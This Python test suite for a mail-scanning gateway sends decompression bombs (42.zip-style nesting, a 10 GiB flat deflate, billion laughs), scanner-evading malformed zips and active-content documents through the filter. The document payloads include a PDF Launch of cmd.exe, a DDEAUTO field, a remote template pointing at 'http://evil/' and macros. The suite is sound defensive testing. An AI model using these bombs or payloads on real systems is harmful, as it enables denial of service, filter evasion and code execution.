"""Files within files through the real processes; bombs, each within its budget; what is locked, broken or ambiguous.

The bombs' processor time and peak memory are printed. Memory is asserted; time too, generously, since the
processor time of a process also grows on a busy machine.
"""
import email.message
import gzip
import json
import lzma
import os
import random
import struct
import subprocess
import sys
import unittest
import zipfile
import zlib

import documents as d
import lab

CARD = "4539 5781 2345 6784"
POLICY = r"""version: 1
use: [postern/base]
detectors:
  marker: {words: [Zanzibarquelle]}
  second: {words: [Quaggamarsh]}
rules:
  - {id: cards, when: {finds: {marker: {}}}, then: {reject: "5.7.1 cards do not leave"}}
  - {id: programs, when: {attachment: {type: executable, depth: 9}}, then: {reject: "5.7.1 programs do not leave"}}
  - {id: macros, when: {attachment: {type: office-macro}}, then: {reject: "5.7.1 macros do not leave"}}
  - {id: locked, when: {attachment: {encrypted: [7z, pdf]}}, then: {reject: "5.7.1 locked files do not leave"}}
  - {id: bases, when: {attachment: {type: sqlite}}, then: {strip_attachment: {matching: this}}}
  - {id: black, when: {finds: {second: {}}}, then: {redact: this}}
  - {id: odd, when: {defect: archive-ambiguous}, then: {reject: "5.7.1 what is this file"}}
"""


def mail(name, data, body="x"):
    m = email.message.EmailMessage()
    m["From"], m["To"], m["Subject"] = "a@example.lab", "b@partner.lab", "file"
    m.set_content(body)
    m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return m.as_bytes(policy=m.policy.clone(linesep="\r\n"))


# --- zips that zipfile does not write ------------------------------------------------------------


def local(name, data, method=0, size=None, told=None):
    n = name.encode()
    return struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, method, 0, 0, zlib.crc32(data) & 0xffffffff,
                       len(data) if told is None else told, (len(data) if size is None else size) & 0xffffffff, len(n), 0) + n + data


def central(name, data, at, method=0, size=None):
    n = name.encode()
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, method, 0, 0, zlib.crc32(data) & 0xffffffff, len(data),
                       (len(data) if size is None else size) & 0xffffffff, len(n), 0, 0, 0, 0, 0, at) + n


def end(n, directory, at, disk=0):
    return struct.pack("<IHHHHIIH", 0x06054b50, disk, disk, n & 0xffff, n & 0xffff, len(directory), at, 0)


def flat(gib, name="a.txt", byte=b"A"):
    """Deflate of that much of one byte, made by repeating one block."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(byte * (8 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    n = gib * 128
    data = block * n + b"\3\0"
    one = local(name, data, 8, n * 8 << 20)
    dir_ = central(name, data, 0, 8, n * 8 << 20)
    return one + dir_ + end(1, dir_, len(one))


def nested(levels):
    data, name = b"x", "a.txt"
    for i in range(levels):
        data, name = d.zip_of({name: data}, zipfile.ZIP_STORED if i % 2 else zipfile.ZIP_DEFLATED), "a.zip"
    return data


def nested_wide():
    """As 42.zip: sixteen in each of sixteen in each …, 4 GiB at the bottom of each."""
    data = flat(1, "0.dll", b"\0")
    for _ in range(5):
        data = d.zip_of({"lib %d.zip" % k: data for k in range(16)})
    return data


def shared():
    """20,000 members, all of the same bytes."""
    r = random.Random(1)
    raw = bytes(r.randrange(256) for _ in range(100)) * 80000
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(raw) + c.flush()
    one = local("a", data, 8, len(raw))
    dir_ = central("a", data, 0, 8, len(raw)) * 20000
    return one + dir_ + end(20000, dir_, len(one))


def gzip_of_itself(levels=200):
    """Packed again and again, as a quine would be without end."""
    data = b"x"
    for _ in range(levels):
        data = gzip.compress(data, mtime=0)
    return data


RUNNER = r"""
import json, os, subprocess, sys, time
for line in sys.stdin:
    job = json.loads(line)
    with open(job["out"], "wb") as out:
        started = time.monotonic()
        p = subprocess.Popen(job["argv"], stdout=out, stderr=subprocess.DEVNULL)
        _, status, usage = os.wait4(p.pid, 0)
        seconds = time.monotonic() - started
    print(json.dumps({"status": os.waitstatus_to_exitcode(status), "seconds": usage.ru_utime + usage.ru_stime, "wall": seconds, "peak": usage.ru_maxrss >> 10}), flush=True)
"""


class Archives(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        # Started while this process is small: what a child has used at most begins with its parent's size.
        cls.runner = subprocess.Popen([sys.executable, "-c", RUNNER], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        cls.lab = lab.Lab("archives")
        cls.lab.dns({"partner.lab": ["@ MX 10 mx", "mx A 127.0.0.1"]})
        cls.mx = cls.lab.mx()
        cls.lab.config(delivery={"port": cls.mx.port, "retry": ["1s"]}, scanners={"processes": "1", "memory": "600MiB"},
                       listeners=[{"name": "smart-host", "address": "127.0.0.1:%d" % cls.lab.ports.setdefault("smtp", lab.free_port()),
                                   "direction": "outbound", "allow": ["network:internal"], "max_size": "100MB"}])
        cls.lab.policy(POLICY)
        cls.lab.start_postern()

    @classmethod
    def tearDownClass(cls):
        cls.lab.close()
        cls.runner.communicate()

    def explain(self, raw):
        path = self.lab.path("m.eml")
        with open(path, "wb") as f:
            f.write(raw)
        job = {"argv": [os.path.join(lab.BUILD, "postern"), "-c", self.lab.path("postern.yaml"), "explain", path, "--json"],
               "out": self.lab.path("out.json")}
        self.runner.stdin.write(json.dumps(job) + "\n")
        self.runner.stdin.flush()
        done = json.loads(self.runner.stdout.readline())
        self.assertIn(done["status"], (0, 1))
        with open(self.lab.path("out.json")) as f:
            return json.load(f), done["seconds"], done["peak"]

    def parts(self, name, data, body="x"):
        out, _, _ = self.explain(mail(name, data, body))
        return out["defects"], {p["part"]: p for p in out["parts"]}, out

    # -- through the processes ---------------------------------------------------------------

    def refused(self, name, data, want):
        code, text = self.lab.send("b@partner.lab", raw=mail(name, data))[:2]
        self.assertEqual(code, 550, text)
        self.assertIn(want, text.decode() if isinstance(text, bytes) else text)

    def test_real_processes(self):
        secret = b"Zanzibarquelle " + CARD.encode()
        inner = d.zip_of({"deep.tar.gz": d.tar_of({"a/b/secret.txt": secret}, "w:gz")})
        self.refused("a.zip", inner, "cards do not leave")
        self.refused("a.7z", d.sevenzip({"s.txt": secret}), "cards do not leave")
        self.refused("a.doc", d.doc(secret.decode() + "\r"), "cards do not leave")
        self.refused("a.pdf", d.pdf(d.pdf_text(secret.decode())), "cards do not leave")
        self.refused("a.zip", d.zip_of({"x/run.txt": b"MZ" + bytes(600)}), "programs do not leave")
        self.refused("a.doc", d.doc("x\r", extra={"Macros": d.vba("x")}), "macros do not leave")
        self.refused("a.7z", d.sevenzip({"s.txt": b"x"}, "-psecret"), "locked files do not leave")
        before = len(self.mx.messages)
        code = self.lab.send("b@partner.lab", raw=mail("a.zip", d.zip_of({"s.txt": b"nothing"})))[0]
        self.assertEqual(code, 250)
        self.mx.wait(before + 1)

    def test_memory_beyond_the_limit_costs_one_message(self):
        # Every other letter has an accent, in a character set of one byte: no text takes more to keep its offsets.
        body = b"\xe9a" * 35 + b"\r\n"
        raw = (b"From: a@example.lab\r\nTo: b@partner.lab\r\nSubject: large\r\nMIME-Version: 1.0\r\n"
               b"Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + body * (40 << 20 >> 7) * 2)
        code = self.lab.send("b@partner.lab", raw=raw)[0]
        self.assertEqual(code, 250)     # held: nothing is delivered unjudged
        lab.wait_for(lambda: "unscannable" in self.lab.tool("held", "list", "--json"), because="the held message")
        self.assertEqual(self.lab.log().count("out of memory"), 2)
        before = len(self.mx.messages)
        self.assertEqual(self.lab.send("b@partner.lab", subject="afterwards")[0], 250)
        self.mx.wait(before + 1)

    # -- bombs -------------------------------------------------------------------------------

    def test_bombs(self):
        lol = '<!DOCTYPE x [<!ENTITY a "lol">' + "".join('<!ENTITY a%d "%s">' % (i, ("&a%s;" % (i - 1 if i else "")) * 10) for i in range(20))
        table = [
            ("zip, 10 GiB flat", mail("a.zip", flat(10)), "too-large"),
            ("zip as 42.zip, 16^5 GiB", mail("a.zip", nested_wide()), "too-many-parts"),
            ("1,000 levels", mail("a.zip", nested(1000)), "too-deep"),
            ("20,000 members share bytes", mail("a.zip", shared()), "too-many-parts"),
            ("gzip without end", mail("a.gz", gzip_of_itself()), "too-deep"),
            ("65,000 files", mail("a.zip", d.zip_of({"%d.txt" % i: b"x" for i in range(65000)})), "too-many-parts"),
            ("gzip, 10 GiB", mail("a.gz", gzip.compress(bytes(1 << 26)) * 160), "too-large"),
            ("xz, 256 MiB", mail("a.xz", lzma.compress(bytes(1 << 28), preset=0)), "too-large"),
            ("docx, 10 GiB", mail("a.docx", flat(10, "word/document.xml")), "too-large"),
            ("docx, billion laughs", mail("a.docx", d.docx(body=lol + "]>" + d.para("&a19;"))), "document-broken"),
            ("xlsx, 1 MB in 200,000 cells", mail("a.xlsx", d.xlsx(["x" * 1000000], {"S": (
                "visible", '<row>%s</row>' % ('<c t="s"><v>0</v></c>' * 200000))})), "too-large"),
            ("pdf, 300 MB of content", mail("a.pdf", d.pdf(b"BT " + b"(aaaa) Tj " * 30000000)), "too-large"),
            ("pdf, 300,000 open objects", mail("a.pdf", b"%PDF-1.4\n" + b"".join(b"%d 0 obj\n<<" % i for i in range(300000))), "too-large"),
            ("doc, chains in circles", mail("a.doc", d.cfb({"WordDocument": bytes(100000)}).replace(
                b"\xfe\xff\xff\xff", b"\1\0\0\0")), "document-broken"),
            ("line of 50 MiB", b"From: a@b.example\r\nTo: b@partner.lab\r\n\r\n" + b"a" * (50 << 20) + b"\r\n", "line-too-long"),
            ("100,000 parts", b"From: a@b.example\r\nTo: b@partner.lab\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
             b"--b\r\n\r\nx\r\n" * 100000 + b"--b--\r\n", "too-many-parts"),
        ]
        print("\n%-28s %12s %9s %8s  %s" % ("bomb", "bytes", "cpu s", "peak MiB", "defects"))
        bad = []
        for what, raw, want in table:
            out, seconds, peak = self.explain(raw)
            print("%-28s %12d %9.2f %8d  %s" % (what, len(raw), seconds, peak, " ".join(out["defects"])))
            if want not in out["defects"]:
                bad.append("%s: no %s" % (what, want))
            if seconds > 30:
                bad.append("%s: %.1f s" % (what, seconds))
            if peak > 600:
                bad.append("%s: %d MiB" % (what, peak))
        self.assertEqual(bad, [])

    # -- what is odd about archives --------------------------------------------------------------

    def test_ambiguous(self):
        one, two = local("a.txt", b"harmless"), local("a.txt", b"Zanzibarquelle")
        cen = central("a.txt", b"harmless", 0)
        cases = {
            "a member that no directory names": one + two + cen + end(1, cen, len(one + two)),
            "another name in the local header": local("b.exe", b"Zanzibarquelle") + central("a.txt", b"Zanzibarquelle", 0) +
            end(1, central("a.txt", b"Zanzibarquelle", 0), len(local("b.exe", b"Zanzibarquelle"))),
            "a name twice": d.zip_of({"a.txt": b"harmless"})[:0] + one + two + cen + central("a.txt", b"Zanzibarquelle", len(one)) +
            end(2, cen + central("a.txt", b"Zanzibarquelle", len(one)), len(one + two)),
            "two directories": one + two + central("a.txt", b"Zanzibarquelle", len(one)) +
            end(1, central("a.txt", b"Zanzibarquelle", len(one)), len(one + two)) + cen +
            end(1, cen, len(one + two) + len(central("a.txt", b"Zanzibarquelle", len(one))) + 22),
            "no directory": one + two,
            "a zip behind a picture": b"GIF89a" + bytes(20) + d.zip_of({"a.txt": b"Zanzibarquelle"}),
        }
        for what, data in cases.items():
            defects, parts, out = self.parts("a.zip", data)
            with self.subTest(what):
                self.assertTrue(any(f["detector"] == "marker" for f in out["findings"]), parts)
                if what != "no directory":
                    self.assertIn("archive-ambiguous", defects)
        # Sizes that differ: the longer one is read.
        data = b"Zanzibarquelle"
        a = local("a.txt", data)
        c = central("a.txt", data[:3], 0)
        defects, parts, out = self.parts("a.zip", a + c + end(1, c, len(a)))
        self.assertIn("archive-ambiguous", defects)
        self.assertTrue(out["findings"])
        # Sound ones are not called so.
        for ok in (d.zip_of({"a.txt": b"x", "b/": b"", "b/c.txt": b"y"}), d.sevenzip({"a.txt": b"x"}, kind="zip"),
                   d.zip_of({"in.zip": d.zip_of({"x": b"y"})}, zipfile.ZIP_STORED)):
            self.assertNotIn("archive-ambiguous", self.parts("a.zip", ok)[0])

    def test_locked(self):
        some = {"s.txt": b"Zanzibarquelle " * 30}
        cases = [("zip", d.sevenzip(some, "-px", kind="zip"), "zip", True), ("zip", d.sevenzip(some, "-px", "-mem=AES256", kind="zip"), "zip-aes", True),
                 ("7z", d.sevenzip(some, "-px"), "7z", True), ("7z", d.sevenzip(some, "-px", "-mhe=on"), "7z-names", False),
                 ("rar", d.rar4_of(some, flags=4), "rar", True),
                 ("pdf", d.qpdf(d.pdf(d.pdf_text("x")), "--encrypt", "a", "b", "256", "--"), "pdf", None),
                 ("docx", d.cfb({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(300)}), "ooxml", None),
                 ("odt", d.odf("text", "garbage", {"META-INF/manifest.xml": "<manifest:encryption-data/>"}), "odf", None),
                 ("asc", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n", "pgp", None)]
        for ext, data, kind, named in cases:
            defects, parts, _ = self.parts("a." + ext, data)
            with self.subTest(kind):
                self.assertTrue(parts["2"]["encrypted"], parts)
                self.assertEqual(parts["2"]["encryption"], kind)
                self.assertNotIn("opened", parts["2"])
                if named is not None:
                    self.assertEqual([p["name"] for n, p in parts.items() if n.startswith("2.")], ["s.txt"] if named else [])
        # With the password in the text, in several ways to say it.
        for say in ("The password: x9!kQ", "Le mot de passe est x9!kQ", "PW = x9!kQ", "password:\n\n  x9!kQ\n", 'Passwort: "x9!kQ".'):
            for data in (d.sevenzip(some, "-px9!kQ", kind="zip"), d.sevenzip(some, "-px9!kQ", "-mem=AES256", kind="zip")):
                _, parts, out = self.parts("a.zip", data, body=say)
                with self.subTest(say):
                    self.assertTrue(parts["2"].get("opened"), parts)
                    self.assertTrue(any(f["part"] == "2.1" for f in out["findings"]))

    def test_split(self):
        r = random.Random(2)
        whole = d.sevenzip({"s.txt": b"Zanzibarquelle " + bytes(r.randrange(32, 126) for _ in range(7000))})
        m = email.message.EmailMessage()
        m["From"], m["To"] = "a@example.lab", "b@partner.lab"
        m.set_content("x")
        self.assertGreater(len(whole), 4000)
        for i in range(3):
            m.add_attachment(whole[i * 2000:(i + 1) * 2000 if i < 2 else None], maintype="application", subtype="octet-stream", filename="a.7z.%03d" % (i + 1))
        out, _, _ = self.explain(m.as_bytes())
        self.assertTrue(any(f["detector"] == "marker" for f in out["findings"]), out["parts"])
        for name, data in (("a.7z.002", whole[2000:]), ("a.part2.rar", d.rar4_of({"a": b"x"}, main_flags=1))):
            self.assertIn("archive-split", self.parts(name, data)[0])

    def test_unreadable(self):
        good = d.sevenzip({"s.txt": bytes(5000)})
        for name, data in (("a.7z", good[:-40]), ("a.xz", lzma.compress(bytes(range(256)) * 50)[:200]),
                           ("a.rar", b"Rar!\x1a\x07\x00" + bytes(50)), ("a.arj", b"\x60\xea" + struct.pack("<H", 30) + bytes(60))):
            with self.subTest(name):
                self.assertIn("archive-unreadable", self.parts(name, data)[0])
        self.assertEqual(self.parts("a.zip", b"PK\5\6" + bytes(18))[0], [])     # an empty zip is sound

    def test_edits_keep_out_of_files(self):
        base = b"SQLite format 3\0" + bytes(100)
        for data in (d.zip_of({"in/x.db": base}), d.zip_of({"in.zip": d.zip_of({"x.db": base})}),
                     mail("x.db", base)):      # a mail saved as a file
            raw = mail("a.eml" if data.startswith(b"From") else "a.zip", data)
            out, _, _ = self.explain(raw)
            with self.subTest(len(data)):
                self.assertEqual(len(out["edits"]), 1, out)
                e = out["edits"][0]
                # The whole attachment goes, and nothing before it.
                self.assertLessEqual(e["offset"], raw.index(b"application/octet-stream"))
                self.assertGreaterEqual(e["offset"] + e["size"], raw.rindex(b"\r\n--"))
                self.assertGreater(e["offset"], raw.index(b"text/plain"))
        for name, data in (("a.zip", d.zip_of({"a.txt": b"Quaggamarsh"})), ("a.tar", d.tar_of({"a.txt": b"Quaggamarsh"})),
                           ("a.doc", d.doc("Quaggamarsh\r")), ("a.pdf", d.pdf(d.pdf_text("Quaggamarsh"), packed=False)),
                           ("a.rtf", d.rtf(b"Quaggamarsh")), ("a.eml", mail("b.txt", b"Quaggamarsh"))):
            out, _, _ = self.explain(mail(name, data))
            with self.subTest(name):
                self.assertTrue(any(f["detector"] == "second" for f in out["findings"]))
                self.assertEqual(out["edits"], [])

    def test_active(self):
        rel = '<R><Relationship Id="a" Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil/"/></R>'
        for name, data, defect in (
                ("a.pdf", d.pdf(d.pdf_text("x"), catalog="/OpenAction<</S/Launch/F(cmd.exe)>>"), "active-content"),
                ("a.docx", d.docx("x", {"word/_rels/settings.xml.rels": rel}), "active-content"),
                ("a.docx", d.docx(body='<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>'), "active-content"),
                ("a.rtf", d.rtf(d.rtf_object(b"Equation.3", b"x" * 50)), "active-content"),
                ("a.xls", d.xls({"M": (False, [["x"]])}, macro=True), "macro"),
                ("a.docm", d.docx("x", {"word/vbaProject.bin": d.cfb(d.vba("x"))}), "macro"),
                ("a.odt", d.odf("text", "x", {"Basic/Standard/Module1.xml": "<m>Sub x</m>"}), "macro")):
            with self.subTest(name):
                self.assertIn(defect, self.parts(name, data)[0])


if __name__ == "__main__":
    unittest.main()
